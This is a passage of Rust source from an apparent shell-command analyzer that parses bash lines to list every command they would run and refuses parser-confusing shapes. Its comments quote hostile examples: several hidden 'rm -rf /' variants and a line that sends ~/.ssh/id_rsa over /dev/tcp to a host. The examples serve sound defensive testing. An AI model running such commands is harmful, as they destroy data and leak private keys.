            self.alias_uses(&argv);
            let state = CommandState::new(&ctx, Vec::new());
            self.emit(argv, state, pos, depth, &ctx, 0);
        }
    }

    fn process_substitution(
        &mut self,
        kind: &ast::ProcessSubstitutionKind,
        sub: &ast::SubshellCommand,
        depth: usize,
        ctx: &Context,
    ) {
        if depth + 1 > self.limits.max_depth {
            self.problem(
                ProblemKind::TooDeep,
                format!(
                    "scripts nest more than {} levels deep",
                    self.limits.max_depth
                ),
            );
            return;
        }
        let label = match kind {
            ast::ProcessSubstitutionKind::Read => "<(…)",
            ast::ProcessSubstitutionKind::Write => ">(…)",
        };
        let mut inner = ctx.inside(label);
        inner.redirects.clear();
        inner.stdin = None;
        self.compound_list(&sub.list, depth + 1, &inner);
    }

    fn simple(
        &mut self,
        simple: &ast::SimpleCommand,
        pos: PipePosition,
        depth: usize,
        ctx: &Context,
    ) {
        let mut ctx = self.piped_context(pos, ctx);
        let mut argv = Vec::new();
        let mut assignments = Vec::new();
        let items = simple
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .map(Item::Prefix)
            .chain(simple.word_or_name.iter().map(Item::Name))
            .chain(
                simple
                    .suffix
                    .iter()
                    .flat_map(|s| s.0.iter())
                    .map(Item::Prefix),
            );
        for item in items {
            match item {
                Item::Name(w) => argv.push(self.word(&w.value, depth, &ctx)),
                Item::Prefix(ast::CommandPrefixOrSuffixItem::Word(w)) => {
                    argv.push(self.word(&w.value, depth, &ctx));
                }
                Item::Prefix(ast::CommandPrefixOrSuffixItem::IoRedirect(r)) => {
                    self.redirect(r, pos, depth, &mut ctx);
                }
                Item::Prefix(ast::CommandPrefixOrSuffixItem::AssignmentWord(assignment, w)) => {
                    if argv.is_empty() {
                        let value = match &assignment.value {
                            ast::AssignmentValue::Scalar(v) => {
                                if let ast::AssignmentName::VariableName(n) = &assignment.name
                                    && self.integers.contains(n)
                                {
                                    self.arithmetic_variables(&v.value, &ctx);
                                }
                                self.word(&v.value, depth, &ctx)
                            }
                            ast::AssignmentValue::Array(items) => {
                                for (key, value) in items {
                                    // An indexed array's subscript is arithmetic
                                    // (`a=([x]=1)` reads `x` as an expression).
                                    if let Some(key) = key {
                                        self.arithmetic(&key.value, depth, &ctx);
                                    }
                                    self.word(&value.value, depth, &ctx);
                                }
                                Word::opaque(w.value.clone())
                            }
                        };
                        let name = match &assignment.name {
                            ast::AssignmentName::VariableName(n) => n.clone(),
                            ast::AssignmentName::ArrayElementName(n, index) => {
                                // bash expands the subscript, running any `$(…)` in it:
                                // `a[$(rm${IFS}-rf${IFS}/)]=1` runs `rm`.
                                self.arithmetic(index, depth, &ctx);
                                n.clone()
                            }
                        };
                        assignments.push((name, value));
                    } else {
                        // After the command name (`declare x=$(…)`) it is an argument.
                        argv.push(self.word(&w.value, depth, &ctx));
                    }
                }
                Item::Prefix(ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, sub)) => {
                    self.process_substitution(kind, sub, depth, &ctx);
                    argv.push(Word::opaque(match kind {
                        ast::ProcessSubstitutionKind::Read => "<(…)",
                        ast::ProcessSubstitutionKind::Write => ">(…)",
                    }));
                }
            }
        }
        self.integer_declarations(&argv, &ctx);
        self.variable_name_arguments(&argv);
        self.alias_uses(&argv);
        let state = CommandState::new(&ctx, assignments);
        self.emit(argv, state, pos, depth, &ctx, 0);
    }

    /// Unwraps wrappers around `argv` and records the command(s) that run.
    fn emit(
        &mut self,
        argv: Vec<Word>,
        mut state: CommandState,
        pos: PipePosition,
        depth: usize,
        ctx: &Context,
        unwrapped: usize,
    ) {
        let invocation = argv.clone();
        let mut argv = argv;
        let mut rounds = unwrapped;
        loop {
            rounds += 1;
            if rounds > 32 {
                self.problem(
                    ProblemKind::TooDeep,
                    "more than 32 nested wrapper commands".to_owned(),
                );
                break;
            }
            let Some(name) = argv
                .first()
                .and_then(|w| if w.glob { None } else { w.as_literal() })
            else {
                break;
            };
            let name = super::basename(name);
            match wrappers::unwrap(name, &argv) {
                Unwrap::Not => break,
                Unwrap::Exec(exec) => {
                    state.wrappers.push(exec.label);
                    state.elevated |= exec.elevated;
                    state.extra_args |= exec.extra_args;
                    state.assignments.extend(exec.assignments);
                    state.directories.extend(exec.directories);
                    state
                        .files
                        .extend(exec.files.into_iter().map(|(target, write)| Redirect {
                            access: if write {
                                RedirectAccess::Write
                            } else {
                                RedirectAccess::Read
                            },
                            target,
                        }));
                    let mut rest: Vec<Word> = argv
                        .get(exec.skip..)
                        .map(<[Word]>::to_vec)
                        .unwrap_or_default();
                    // `xargs -I R sh -c 'echo R'`: input takes R's place, so any word
                    // holding R is only known at run time (the script above runs input).
                    if let Some(replace) = exec.replace.as_deref().filter(|r| !r.is_empty()) {
                        for word in &mut rest {
                            if word.text.contains(replace) {
                                word.opaque = true;
                            }
                        }
                    }
                    if rest.is_empty() {
                        break;
                    }
                    argv = rest;
                }
                Unwrap::Script(script) => {
                    let mut inner = ctx.inside(script.label.clone());
                    inner.wrappers = state.wrappers.clone();
                    inner.wrappers.push(script.label.clone());
                    inner.elevated = state.elevated || script.elevated;
                    inner.directories.clone_from(&state.directories);
                    if script.remote.is_some() {
                        inner.remote.clone_from(&script.remote);
                    }
                    // The wrapper's redirections and standard input are the script's: `bash -c
                    // cat < ~/.ssh/id_rsa > /dev/tcp/h/80` has `cat` read the key and write
                    // to the network, and `bash -c sh <<< 'rm -rf /'` has `sh` read the
                    // here-string. Every command inside gets them, which over-approximates
                    // one that redirects its own.
                    if let Some(caveat) = &script.caveat {
                        self.problem(ProblemKind::Opaque, caveat.clone());
                    }
                    if script.label == "alias" {
                        self.aliases.extend(argv.iter().skip(1).filter_map(|w| {
                            w.text.split_once('=').map(|(name, _)| name.to_owned())
                        }));
                    }
                    match script.text.as_literal() {
                        Some(text) => self.script(text, depth + 1, &inner),
                        None => {
                            self.problem(
                                ProblemKind::Opaque,
                                format!(
                                    "`{name}` runs a script only known at run time: `{}`",
                                    shorten(&script.text.text)
                                ),
                            );
                            // Keep the wrapper itself so the risk model sees what runs it.
                            break;
                        }
                    }
                    // Keep the wrapper when it carries assignments (`BASH_ENV=x bash -c …`)
                    // or is an action of its own (ssh).
                    if !script.keep_self && state.assignments.is_empty() {
                        return;
                    }
                    break;
                }
                Unwrap::Spawns(spawned) => {
                    for command in spawned {
                        let mut inner_state = state.clone();
                        inner_state.wrappers.push(command.label);
                        inner_state.extra_args = true;
                        inner_state.directories.extend(command.directories);
                        self.emit(command.argv, inner_state, pos, depth, ctx, rounds);
                    }
                    break;
                }
                Unwrap::Opaque(message) => {
                    self.problem(ProblemKind::Opaque, message);
                    break;
                }
                Unwrap::SelfOnly => break,
                Unwrap::StdinScript => {
                    // `echo 'rm -rf /' | bash`: the text the command before it in the pipeline
                    // prints is the script (a known gap until session 9).
                    let piped = match (&ctx.stdin, &self.piped_text) {
                        (None | Some(Stdin::Pipe), Some((id, recorded, text)))
                            if pos.stdin_piped
                                && *id == pos.id
                                && *recorded == self.commands.len() =>
                        {
                            Some(text.clone())
                        }
                        _ => None,
                    };
                    // The shell's context for the script it reads: its wrappers and the
                    // shell itself, and neither its redirections nor its input.
                    let inner_context = |label: String| {
                        let mut inner = ctx.inside(label.clone());
                        inner.wrappers = state.wrappers.clone();
                        inner.wrappers.push(label);
                        inner.elevated = state.elevated;
                        inner.directories.clone_from(&state.directories);
                        inner.redirects.clear();
                        inner.stdin = None;
                        inner
                    };
                    if let Some(script) = piped {
                        let inner = inner_context(format!("… | {name}"));
                        self.script(&script, depth + 1, &inner);
                    }
                    // `bash <<< 'rm -rf /'`, `sh <<EOF … EOF`: the here-text is the script.
                    if let Some(Stdin::Text(text)) = &ctx.stdin {
                        let inner = inner_context(format!("{name} <<<"));
                        match text.as_literal() {
                            Some(script) => self.script(script, depth + 1, &inner),
                            None => self.problem(
                                ProblemKind::Opaque,
                                format!("`{name}` runs a here-document only known at run time"),
                            ),
                        }
                    }
                    break;
                }
            }
        }
        if self.commands.len() >= self.limits.max_commands {
            self.problem(
                ProblemKind::TooManyCommands,
                format!("more than {} simple commands", self.limits.max_commands),
            );
            return;
        }
        if let Some(first) = argv.first_mut()
            && first.glob
        {
            first.opaque = true;
        }
        self.piped_text = if pos.stdout_piped {
            printed_text(&argv).map(|text| (pos.id, self.commands.len() + 1, text))
        } else {
            None
        };
        self.commands.push(SimpleCommand {
            argv,
            invocation,
            wrappers: state.wrappers,
            elevated: state.elevated,
            remote: state.remote,
            extra_args: state.extra_args,
            assignments: state.assignments,
            directories: state.directories,
            redirects: ctx.redirects.iter().cloned().chain(state.files).collect(),
            stdin: ctx.stdin.clone().unwrap_or(if pos.stdin_piped {
                Stdin::Pipe
            } else {
                Stdin::Inherited
            }),
            stdout_piped: pos.stdout_piped,
            function: ctx.function.clone(),
            pipeline: pos.id,
        });
    }
}

enum Item<'a> {
    Name(&'a ast::Word),
    Prefix(&'a ast::CommandPrefixOrSuffixItem),
}

#[derive(Debug, Clone)]
struct CommandState {
    wrappers: Vec<String>,
    elevated: bool,
    remote: Option<String>,
    directories: Vec<Word>,
    /// Files wrappers read or write themselves (`time -o FILE`), as redirections.
    files: Vec<Redirect>,
    extra_args: bool,
    assignments: Vec<(String, Word)>,
}

impl CommandState {
    /// The state of a command found in `ctx`, before any wrapper: its wrappers, privileges,
    /// host and directories are the context's.
    fn new(ctx: &Context, assignments: Vec<(String, Word)>) -> Self {
        Self {
            wrappers: ctx.wrappers.clone(),
            elevated: ctx.elevated,
            remote: ctx.remote.clone(),
            directories: ctx.directories.clone(),
            files: Vec::new(),
            extra_args: false,
            assignments,
        }
    }
}

/// The digits of an I/O number (`N>`, `N<`: digits directly followed by a redirection
/// operator) that don't fit the parser's `i32`. brush-parser 0.4 unwraps that conversion
/// (`io_number` in its peg.rs), so `echo 99999999999>x` panics inside the parser (found by
/// fuzzing `shell_assess`). The panic would be caught, but a host built with
/// `panic = "abort"` would die on it: refuse such a line before parsing.
fn oversized_io_number(tokens: &[brush_parser::Token]) -> Option<&str> {
    use brush_parser::Token;
    tokens.windows(2).find_map(|pair| match pair {
        [Token::Word(digits, word_at), Token::Operator(op, op_at)]
            if op.starts_with(['<', '>'])
                && word_at.end.index == op_at.start.index
                && digits.bytes().all(|b| b.is_ascii_digit())
                && digits.parse::<i32>().is_err() =>
        {
            Some(digits.as_str())
        }
        _ => None,
    })
}

/// The deepest nesting of `(` operator tokens as [`word::Nesting`] bounds it: unclosed ones
/// count, and so does every pair around a `case` word (a pattern's `)` closes no `(`, so
/// brush-parser may pair them differently: `( case x in x) ` repeated 20 times took it 2 s).
/// A `)` with nothing open is ignored. brush-parser's time is exponential in it.
/// Whether two `(` operator tokens follow each other with something between them in the source
/// (`( (`), or, when the line has a `((`, two `)` do (`) )`). brush-parser 0.4's
/// arithmetic-command rule matches any two `(` tokens and any two `)` tokens, so it read
/// `( ( rm -rf / ) )` as the arithmetic command `((rm -rf /))`, which runs nothing, and the
/// line was allowed; bash needs `((` and `))` written together and otherwise runs nested
/// subshells (`((rm -rf /) )` runs `rm` too). Found by `every_command_bash_runs_is_listed`.
fn spaced_double_paren(tokens: &[brush_parser::Token]) -> bool {
    let operator = |token: &brush_parser::Token, op: &str| matches!(token, brush_parser::Token::Operator(o, _) if o == op);
    let adjacent = |a: &brush_parser::Token, b: &brush_parser::Token| {
        a.location().end.index == b.location().start.index
    };
    let pairs = |op: &'static str| {
        tokens.windows(2).filter_map(move |pair| match pair {
            [a, b] if operator(a, op) && operator(b, op) => Some(adjacent(a, b)),
            _ => None,
        })
    };
    let opening: Vec<bool> = pairs("(").collect();
    opening.contains(&false) || (!opening.is_empty() && pairs(")").any(|together| !together))
}

fn paren_nesting(tokens: &[brush_parser::Token]) -> usize {
    let mut nesting = word::Nesting::default();
    for token in tokens {
        match token {
            brush_parser::Token::Operator(op, _) => {
                for byte in op.bytes() {
                    match byte {
                        b'(' => nesting.open(b')'),
                        b')' => nesting.close(b')'),
                        _ => {}
                    }
                }
            }
            brush_parser::Token::Word(word, _) if word == "case" => nesting.taint(),
            brush_parser::Token::Word(..) => {}
        }
    }
    nesting.deepest()
}

/// The first word token (here-document bodies aside) nesting brackets deeper than
/// [`word::MAX_WORD_PAREN_DEPTH`] as [`word::word_nesting`] counts them, with its count.
/// brush-parser's script parser runs its word parser on words itself (to recognise
/// `name[index]=value` assignments), before our per-word check could: a 203-byte word of
/// `name[…${name[…` took it 20 s (found by fuzzing).
fn deepest_word(tokens: &[brush_parser::Token]) -> Option<(&str, usize)> {
    use brush_parser::Token;
    // After `<<` come the delimiter, the body and the closing delimiter as three words.
    let mut heredoc_words = 0u8;
    for token in tokens {
        match token {
            Token::Operator(op, _) if op == "<<" || op == "<<-" => heredoc_words = 3,
            Token::Operator(..) => {}
            Token::Word(..) if heredoc_words > 0 => heredoc_words -= 1,
            Token::Word(word, _) => {
                let nesting = word::word_nesting(word, word::Outside::Brackets);
                if nesting > word::MAX_WORD_PAREN_DEPTH {
                    return Some((word, nesting));
                }
            }
        }
    }
    None
}

/// Whether a here-document operator (`<<`, `<<-`; anywhere, quoted or not) is followed by a
/// delimiter that is empty after quote removal (`''`, `""`, `''""`). bash ends such a
/// here-document at the first empty line; brush-parser 0.4's tokenizer loops until memory
/// runs out when the line ends after it with blanks or a comment (`cat <<'' ` and
/// `echo "$(cat <<'' #)"`, found by fuzzing). Operators inside quotes are checked too, as the
/// tokenizer rescans the text of command substitutions; a string that only mentions one is
/// refused with them, which fails closed.
fn empty_heredoc_delimiter(src: &str) -> bool {
    let bytes = src.as_bytes();
    let mut from = 0usize;
    while let Some(at) = bytes
        .get(from..)
        .and_then(|rest| rest.windows(2).position(|pair| pair == b"<<"))
    {
        let mut i = from.saturating_add(at).saturating_add(2);
        from = i;
        match bytes.get(i) {
            Some(b'<') => {
                // A here-string `<<<`.
                from = i.saturating_add(1);
                continue;
            }
            Some(b'-') => i = i.saturating_add(1),
            _ => {}
        }
        while matches!(bytes.get(i), Some(b' ' | b'\t')) {
            i = i.saturating_add(1);
        }
        if delimiter_is_empty(bytes.get(i..).unwrap_or_default()) {
            return true;
        }
    }
    false
}

/// Whether the word at the start of `rest` is empty after quote removal and has at least one
/// quote (an unquoted empty word is no delimiter at all, which brush-parser reports).
fn delimiter_is_empty(rest: &[u8]) -> bool {
    let mut quoted = false;
    let mut i = 0usize;
    while let Some(&byte) = rest.get(i) {
        match byte {
            b'\'' | b'"' => {
                let Some(len) = rest
                    .get(i.saturating_add(1)..)
                    .and_then(|inner| inner.iter().position(|&b| b == byte))
                else {
                    // Unterminated: the tokenizer reports it.
                    return false;
                };
                if len > 0 {
                    return false;
                }
                quoted = true;
                i = i.saturating_add(2);
            }
            // `$''` and `$""` are quoted too.
            b'$' if matches!(rest.get(i.saturating_add(1)), Some(b'\'' | b'"')) => {
                i = i.saturating_add(1);
            }
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' => break,
            _ => return false,
        }
    }
    quoted
}

/// Whether byte `i` of `bytes` starts a word: it is the first byte, or follows a blank,
/// newline or operator byte (`;&|()`).
fn at_word_start(bytes: &[u8], i: usize) -> bool {
    i == 0
        || matches!(
            i.checked_sub(1).and_then(|j| bytes.get(j)),
            Some(b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')')
        )
}

/// What [`tokenizer_hazard`] found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum TokenizerHazard {
    /// A here-document operator inside a substitution the line never closes, or one that
    /// closes before the here-document's body.
    UnclosedExpansion,
    /// A here-document delimiter that is not a plain word.
    UnusualDelimiter,
    /// A here-document operator inside `${…}`.
    InParameterExpansion,
    /// A `<<` inside arithmetic after a nested construct, or a here-document inside
    /// arithmetic.
    Arithmetic,
    /// A here-document where brush-parser's tokenizer still reads arithmetic (after `((`
    /// inside `$(…)`), and takes `<<` for a shift; or `<((`/`>((`, which bash reads as a
    /// process substitution holding a subshell and the tokenizer as arithmetic.
    ArithmeticLeft,
    /// A blank, `#`, operator or `<<` inside the subscript of `name[…]` at a word's start.
    Subscript,
    /// A substitution, `${`, `<(` or `>(` after a here-document operator on its line, or more
    /// after the delimiter of a here-document inside a substitution.
    PendingSubstitution,
}

/// Scans the here-document operators brush-parser 0.4's tokenizer sees (unquoted `<<` and
/// `<<-` outside arithmetic, in the line or in any substitution) and reports the first shape
/// that tokenizer is known to mishandle. It reads here-document bodies as bash does (a `)` in
/// a body closes nothing, a comment hides the rest of its line). Each shape was found by
/// fuzzing `shell_assess`, where the tokenizer unwrapped a missing character:
///
/// - [`TokenizerHazard::UnclosedExpansion`]: inside a `$(`, `$[`, `${` or backquote that the
///   line never closes (`$(<<EOF` + newline + `)` + newline + `EOF`), or that closes before
///   the body starts (`$(<<  E)$(#)`). bash refuses the first and rarely sees the second.
///   Substitutions that close after the body, like the common `git commit -m "$(cat <<'EOF'
///   … EOF` + newline + `)"`, pass.
/// - [`TokenizerHazard::UnusualDelimiter`]: a delimiter that is not a plain word
///   (`<<${${` + form feed + `}"}"`): the tokenizer reads the delimiter with its
///   here-document state still pending, so any expansion, odd blank or glob inside one trips
///   it. Plain words (letters, digits and `_.,:=%^/~-`, quoted or escaped or not) are what
///   scripts use (`EOF`, `'EOF'`, `"END_OF_TEXT"`, `\EOF`).
/// - [`TokenizerHazard::Arithmetic`]: a `<<` in arithmetic after a nested construct (see the
///   comment at its arm), or a here-document in a substitution inside arithmetic. This one
///   is not a panic but a line read differently from bash, which hid a command.
/// - [`TokenizerHazard::ArithmeticLeft`]: a here-document after a `((` inside `$(…)`, where
///   the tokenizer's arithmetic flag is never cleared, or any `<((`/`>((` (see the comments
///   at the `(` arms). Found by differential testing, not by fuzzing: each hid a command.
/// - [`TokenizerHazard::Subscript`]: a `<<`, blank, `#` or operator inside `name[…]` at a
///   word's start, which bash reads as part of the word (`a[1<< 2 ]=1` assigns) and the
///   tokenizer as an operator or comment: hidden commands, not panics.
/// - [`TokenizerHazard::InParameterExpansion`]: an operator inside `${…}`, where the
///   tokenizer keeps a here-document queue of its own (the loop that unwrapped in
///   crash-4a511049). bash scripts don't put one there.
///
/// Every shape refused here is one bash scripts practically never use, so refusing fails
/// closed at little cost. Otherwise it returns where bash reads here-documents and comments
/// outside substitutions and backquotes, which the walk compares with brush-parser's tokens
/// and syntax tree.
fn tokenizer_hazard(src: &str) -> Result<BashReading, TokenizerHazard> {
    #[derive(Clone, Copy, PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
        /// `$'…'`, where a backslash escapes the next byte (`$'\''` holds a quote).
        Ansi,
    }
    /// The constructs open at a point of the scan, innermost last: the byte that closes each,
    /// the quoting outside it, and whether it is arithmetic (`$((`, `$[`, `((`), where `<<` is
    /// a shift. A subscript `name[…]` is a `]` that is not arithmetic (`$[` is). Counts of
    /// the kinds the scan asks about keep each step constant-time.
    ///
    /// Each entry also says whether brush-parser reads the construct on its own (see
    /// `readers`), whether it is the inner paren of `((` or `$((` (bash reads the construct
    /// as arithmetic only if that paren's `)` is followed by another: `$((cmd) )` is a
    /// command substitution of a subshell), and whether it is part of a word (a substitution,
    /// after whose closer the word goes on).
    ///
    /// `readers` models brush-parser 0.4's tokenizer: the constructs it reads up to a closing
    /// byte of their own (`$(`, `$((`, `$[`, `${`, and backquotes, whose text it parses
    /// again later), innermost last, each with the tokenizer's "in arithmetic" flag from
    /// before it. `in_arithmetic` is that flag (see the `((` arm for its rules).
    #[derive(Default)]
    struct Open {
        stack: Vec<(u8, Quote, bool, bool, bool, bool)>,
        arithmetic: usize,
        subscripts: usize,
        braces: usize,
        backquotes: usize,
        readers: Vec<(u8, bool)>,
        in_arithmetic: bool,
    }
    impl Open {
        fn push(&mut self, closer: u8, outside: Quote, arithmetic: bool) {
            self.count(closer, arithmetic, true);
            self.stack
                .push((closer, outside, arithmetic, false, false, false));
        }
        /// Pushes the inner paren of `((` or `$((`.
        fn push_double(&mut self) {
            self.count(b')', true, true);
            self.stack
                .push((b')', Quote::None, true, false, true, false));
        }
        /// Pushes a process substitution (`<(`, `>(`), which is part of a word.
        fn push_process_substitution(&mut self) {
            self.stack
                .push((b')', Quote::None, false, false, false, true));
        }
        /// Whether the innermost construct is part of a word (a substitution), so that the
        /// word goes on after its closer.
        fn in_word(&self) -> bool {
            self.stack.last().is_some_and(|entry| entry.5)
        }
        /// Whether the innermost construct is the inner paren of `((` or `$((`.
        fn in_double(&self) -> bool {
            self.stack.last().is_some_and(|entry| entry.4)
        }
        /// Pushes a construct brush-parser's tokenizer reads up to `closer` on its own.
        fn push_reader(&mut self, closer: u8, outside: Quote, arithmetic: bool) {
            self.count(closer, arithmetic, true);
            self.stack
                .push((closer, outside, arithmetic, true, false, true));
            self.readers.push((closer, self.in_arithmetic));
            if closer == b'`' {
                // The text between backquotes is parsed again from a fresh state.
                self.in_arithmetic = false;
            } else if arithmetic {
                self.in_arithmetic = true;
            }
        }
        fn pop(&mut self) -> Option<Quote> {
            let (closer, outside, arithmetic, reader, _, _) = self.stack.pop()?;
            self.count(closer, arithmetic, false);
            if reader && let Some((closer, before)) = self.readers.pop() {
                if closer == b'`' {
                    self.in_arithmetic = before;
                } else if arithmetic {
                    // `$((…))` and `$[…]` end with the flag cleared, whatever it was before.
                    self.in_arithmetic = false;
                }
            }
            Some(outside)
        }
        /// Whether brush-parser's tokenizer reads a `)` here as the end of the construct it
        /// is reading (inside `$(…)` or `$((…))`) rather than as an operator.
        fn paren_ends_reader(&self) -> bool {
            self.readers
                .last()
                .is_some_and(|&(closer, _)| closer == b')')
        }
        fn count(&mut self, closer: u8, arithmetic: bool, up: bool) {
            let counter = match (closer, arithmetic) {
                (_, true) => &mut self.arithmetic,
                (b']', false) => &mut self.subscripts,
                (b'}', false) => &mut self.braces,
                (b'`', false) => &mut self.backquotes,
                _ => return,
            };
            *counter = if up {
                counter.saturating_add(1)
            } else {
                counter.saturating_sub(1)
            };
        }
        fn len(&self) -> usize {
            self.stack.len()
        }
        fn is_empty(&self) -> bool {
            self.stack.is_empty()
        }
        fn last(&self) -> Option<(u8, bool)> {
            self.stack
                .last()
                .map(|&(closer, _, arithmetic, _, _, _)| (closer, arithmetic))
        }
    }
    let bytes = src.as_bytes();
    let mut open = Open::default();
    let mut quote = Quote::None;
    // Delimiters of here-documents whose bodies start after the next newline, with the
    // number of constructs open at their operator, and the largest of those numbers.
    let mut pending: Vec<(Vec<u8>, bool, usize)> = Vec::new();
    let mut pending_depth = 0usize;
    let mut inside = false;
    // Whether a construct opened inside the arithmetic now open (other than its opener's own
    // brackets) has closed: brush-parser's tokenizer may then have left arithmetic already.
    let mut arithmetic_nested = false;
    // Where the last unquoted `<` or `>` was, and whether a `<<` was read as a shift.
    let mut redirect: Option<usize> = None;
    let mut shifted = false;
    // Where the last substitution that is part of a word closed.
    let mut word_goes_on: Option<usize> = None;
    // Here-documents outside substitutions and backquotes (brush-parser parses the text of
    // those again, and the walk checks each on its own).
    let mut heredocs = 0usize;
    // Where comments start (outside substitutions and backquotes, too).
    let mut comments = Vec::new();
    let mut i = 0usize;
    while let Some(&byte) = bytes.get(i) {
        let next = bytes.get(i.saturating_add(1)).copied();
        let closes = open.last().map(|(closer, _)| closer) == Some(byte);
        let arithmetic = open.last().is_some_and(|(_, arithmetic)| arithmetic);
        match (quote, byte) {
            (Quote::Single | Quote::Ansi, b'\'') => quote = Quote::None,
            (Quote::Single, _) => {}
            (_, b'\\') => i = i.saturating_add(1),
            (Quote::Ansi, _) => {}
            (Quote::None, b'$') if next == Some(b'\'') => {
                quote = Quote::Ansi;
                i = i.saturating_add(1);
            }
            (_, b'`') if closes => {
                if let Some(outside) = open.pop() {
                    quote = outside;
                }
                arithmetic_nested = open.arithmetic > 0;
                if !pending.is_empty() && pending_depth > open.len() {
                    return Err(TokenizerHazard::UnclosedExpansion);
                }
            }
            // A substitution or `${` after a here-document operator on its line: see
            // `heredoc_with_pending_substitution`, which refuses the same without reading
            // here-document bodies, so a quote in a body could hide one from it (found by the
            // Python grammar harness: `"` in an earlier body, then `<<\E "$(…` on a later line).
            (_, b'`') | (_, b'$')
                if !pending.is_empty()
                    && (byte == b'`' || matches!(next, Some(b'(' | b'[' | b'{'))) =>
            {
                return Err(TokenizerHazard::PendingSubstitution);
            }
            (_, b'`') => {
                open.push_reader(b'`', quote, false);
                quote = Quote::None;
            }
            (_, b'$') if matches!(next, Some(b'(' | b'[' | b'{')) => {
                let closer = match next {
                    Some(b'(') => b')',
                    Some(b'[') => b']',
                    _ => b'}',
                };
                let after = bytes.get(i.saturating_add(2)).copied();
                let double_paren = closer == b')' && after == Some(b'(');
                open.push_reader(closer, quote, closer == b']' || double_paren);
                quote = Quote::None;
                i = i.saturating_add(1);
                if double_paren {
                    // `$((`: its second `(` is part of the opener.
                    open.push_double();
                    i = i.saturating_add(1);
                }
            }
            (Quote::None, b'\'') => quote = Quote::Single,
            (Quote::None, b'"') => quote = Quote::Double,
            (Quote::Double, b'"') => quote = Quote::None,
            // bash reads the subscript of `name[…]` at a word's start as part of one word,
            // blanks, `#`, `;` and all (`a[1 #]=1 rm -rf /` runs `rm` after a failed
            // assignment); brush-parser 0.4 splits the word there, and took `#]=1 rm -rf /` for
            // a comment.
            (
                Quote::None,
                b' ' | b'\t' | b'\n' | b'#' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')',
            ) if open.last() == Some((b']', false)) => {
                return Err(TokenizerHazard::Subscript);
            }
            (Quote::None, b'[') if open.subscripts > 0 => {
                open.push(b']', Quote::None, false);
            }
            // A name at a word's start: followed by `[`, it opens a subscript.
            (Quote::None, b'A'..=b'Z' | b'a'..=b'z' | b'_') if at_word_start(bytes, i) => {
                let rest = bytes.get(i..).unwrap_or_default();
                let len = rest
                    .iter()
                    .position(|&b| !(b.is_ascii_alphanumeric() || b == b'_'))
                    .unwrap_or(rest.len());
                i = i.saturating_add(len);
                if bytes.get(i) == Some(&b'[') {
                    open.push(b']', Quote::None, false);
                } else {
                    i = i.saturating_sub(1);
                }
            }
            // A `(` inside a substitution, or `((` anywhere (an arithmetic command or `for ((`).
            //
            // brush-parser 0.4's tokenizer sets its "in arithmetic" flag at any unquoted `((`,
            // and clears it at a `))` only where it reads `)` as an operator: not inside
            // `$(…)`, where each `)` is a candidate end of the substitution. So after
            // `$( ((1)) )` the flag stays set, and a later `<<` is read as a shift, not as a
            // here-document: `echo $( ((1)) ) <<E | rm -rf /`, a newline and `E` hid the `rm`
            // (found by the Python grammar test). The flag is modelled here, and a `<<` the two
            // read differently is refused (the `<<` arms).
            //
            // After `<` or `>` it opens a process substitution, which may hold a subshell:
            // `<((…))` is `<(` and `(…)` for bash, never arithmetic (a here-document inside
            // was read as a shift and hid the command after it; found by
            // `every_command_bash_runs_is_listed_wide`). The tokenizer reads `((` there all
            // the same.
            (Quote::None, b'(') if redirect.is_some() && redirect == i.checked_sub(1) => {
                if !pending.is_empty() {
                    return Err(TokenizerHazard::PendingSubstitution);
                }
                // `<(((…` hid a command behind a comment the two read differently (found by
                // the Python grammar harness); `<( (…) )` with a blank is the usual spelling.
                if next == Some(b'(') {
                    return Err(TokenizerHazard::ArithmeticLeft);
                }
                open.push_process_substitution();
            }
            (Quote::None, b'(') if !open.is_empty() || next == Some(b'(') => {
                open.push(b')', Quote::None, arithmetic || next == Some(b'('));
                if next == Some(b'(') {
                    open.push_double();
                    open.in_arithmetic = true;
                    i = i.saturating_add(1);
                }
            }
            // A `)` that closes nothing inside arithmetic: brush-parser's tokenizer reads `))`
            // there as an operator that ends its "in arithmetic" flag, so a later `<<` became
            // a here-document inside `$[…]`, where it unwraps a missing character
            // (`${$[))<<F]`, found by fuzzing: crash-e073d2a7). bash rejects such an
            // expression when it evaluates it; refused.
            (Quote::None, b')') if !closes && open.arithmetic > 0 => {
                return Err(TokenizerHazard::Arithmetic);
            }
            // `$((cmd) )` or `((cmd) )`: not arithmetic for bash, so a `<<` read as a shift
            // inside may have been a here-document.
            (Quote::None, b')') if closes && open.in_double() && next != Some(b')') && shifted => {
                return Err(TokenizerHazard::Arithmetic);
            }
            (Quote::None, b')' | b']' | b'}') if closes => {
                if byte == b')' && next == Some(b')') && !open.paren_ends_reader() {
                    open.in_arithmetic = false;
                }
                if open.in_word() {
                    word_goes_on = Some(i);
                }
                if let Some(outside) = open.pop() {
                    quote = outside;
                }
                arithmetic_nested = open.arithmetic > 0;
                // A construct holding a here-document closes before its body was read.
                if !pending.is_empty() && pending_depth > open.len() {
                    return Err(TokenizerHazard::UnclosedExpansion);
                }
            }
            // A comment runs to the end of the line (`$(#)` never closes), or inside backquotes
            // to the closing one, which bash finds before it reads the comment.
            //
            // A `#` right after a substitution's `)` is part of the word (`<(cmd)# x & rm`
            // runs `rm`; brush-parser and this scan had read a comment, found by the Python
            // grammar harness), unlike one after a subshell's `)`. Inside `${…}` a `#` is
            // text: skipping `${${ #<<F}` as a comment hid a here-document operator inside
            // `${…}`, on which brush-parser's tokenizer unwraps a missing character (found by
            // fuzzing, crash-876ba9b2).
            (Quote::None, b'#')
                if at_word_start(bytes, i)
                    && word_goes_on != i.checked_sub(1)
                    && open.last() != Some((b'}', false)) =>
            {
                if open.readers.is_empty() {
                    comments.push(i);
                }
                let rest = bytes.get(i..).unwrap_or_default();
                let backquoted = open.backquotes > 0;
                let len = rest
                    .iter()
                    .position(|&b| b == b'\n' || (backquoted && b == b'`'))
                    .unwrap_or(rest.len());
                i = i.saturating_add(len).saturating_sub(1);
            }
            // bash reads the subscript of `name[…]=value` at a word's start as one word, blanks
            // and all, so `a[1<< 2 ]=1` is an assignment; brush-parser 0.4 reads `<< 2` as a
            // here-document operator and swallows the following lines as its body (they ran
            // in bash and were hidden).
